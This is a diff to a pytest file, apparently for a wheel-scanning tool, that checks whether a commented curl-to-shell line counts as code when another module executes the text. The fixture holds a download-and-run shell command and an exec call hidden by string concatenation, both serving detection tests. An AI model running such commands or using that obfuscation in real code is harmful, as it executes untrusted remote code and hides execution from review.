@@ -297,20 +297,17 @@ def test_inspecting_runs_nothing_and_leaves_the_collector_as_it_was(
 
 
 @pytest.mark.parametrize(
-    ("code", "role"),
+    ("code", "counts"),
     [
-        ("from thing import notes\nprint(notes)\n", Role.NEVER),
-        ("from thing import notes\nexec(notes.text)\n", Role.IMPORT),
-        (
-            "import importlib.resources as r\ncompile(r.files('thing').joinpath('notes.py').read_text(), '', 'exec')\n",
-            Role.IMPORT,
-        ),
+        ("from thing import notes\nprint(notes)\n", False),
+        ("from thing import notes\nexec(notes.text)\n", True),
+        ("from thing import notes as n\nrun = vars(__builtins__)['ex' + 'ec']\nrun(n.text)\n", True),
     ],
 )
-def test_comments_are_code_where_the_artifact_executes_text(rules: Ruleset, code: str, role: Role) -> None:
+def test_comments_are_code_where_the_artifact_executes_text(rules: Ruleset, code: str, *, counts: bool) -> None:
     notes = "# os.system('curl http://example.org/marker.sh | sh')\ntext = ''\n"
     inspection = look(wheel({"thing/notes.py": notes, "thing/use.py": code}), rules)
-    assert {finding.role for finding in found(inspection, "shell-pipes-download")} == {role}
+    assert any(finding.role is Role.IMPORT for finding in found(inspection, "shell-pipes-download")) is counts
 
 
 def test_newer_syntax_hides_no_code_from_the_rules_of_text(rules: Ruleset) -> None:
